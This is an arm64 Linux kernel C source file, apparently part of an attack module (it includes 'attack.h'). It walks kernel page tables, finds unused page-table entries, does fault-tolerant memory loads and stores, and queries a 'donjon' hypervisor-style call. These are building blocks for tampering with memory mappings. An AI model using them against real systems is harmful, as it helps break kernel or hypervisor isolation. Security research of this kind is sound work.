// SPDX-License-Identifier: GPL-2.0-only
/*
 * Table walks by software, and accesses that may fault.
 */
#include <linux/io.h>
#include <linux/uaccess.h>

#include <asm/pgtable.h>
#include <asm/sysreg.h>

#include "attack.h"

#define ENTRIES		512
#define INDEX_BITS	9
/* 47 bits: the root has 256 entries for an address, and its halves agree */
#define ROOT_MASK	(ENTRIES / 2 - 1)

u64 kernel_root(void)
{
	return PAGE_OF(read_sysreg(ttbr1_el1));
}

struct step walk_to(u64 root, unsigned long va, int level)
{
	struct step step = { .entry = root };
	u64 table = root;

	for (step.level = 0; ; step.level++) {
		unsigned int shift = PAGE_SHIFT + (3 - step.level) * INDEX_BITS;
		/* The kernel's root has half of the entries that a user's has */
		bool half = !step.level && va >> 63;
		u64 index = va >> shift & (half ? ROOT_MASK : ENTRIES - 1);

		step.entry = table + index * sizeof(u64);
		step.value = READ_ONCE(*(u64 *)phys_to_virt(step.entry));
		if (step.level == level ||
		    (step.value & DESCRIPTOR_TABLE) != DESCRIPTOR_TABLE)
			return step;
		table = PAGE_OF(step.value);
	}
}

u64 frame_of(unsigned long va)
{
	struct step leaf = walk_to(kernel_root(), va, 3);
	unsigned long size = 1UL << (PAGE_SHIFT + (3 - leaf.level) * INDEX_BITS);

	return PAGE_OF(PAGE_OF(leaf.value) + va % size);
}

u64 free_entry(u64 entry)
{
	u64 *table = phys_to_virt(PAGE_OF(entry));
	unsigned int i;

	for (i = ENTRIES - 1; i; i--)
		if (!READ_ONCE(table[i]))
			return PAGE_OF(entry) + i * sizeof(u64);
	return 0;
}

bool try_load(const u64 *from, u64 *value)
{
	bool loaded = false;

	pagefault_disable();
	__get_kernel_nofault(value, from, u64, out);
	loaded = true;
out:
	pagefault_enable();
	return loaded;
}

bool try_store(u64 *to, u64 value)
{
	bool stored = false;

	pagefault_disable();
	__put_kernel_nofault(to, &value, u64, out);
	stored = true;
out:
	pagefault_enable();
	return stored;
}

bool try_touch(u64 *word)
{
	u64 value;

	return try_load(word, &value) && try_store(word, value);
}

u64 inner_memory(void)
{
	/* As `status` asks: which fact is number 3 */
	return __donjon_call(DONJON_FN_INFORMATION, 3, 0, 0, 0, 0, 0).value;
}
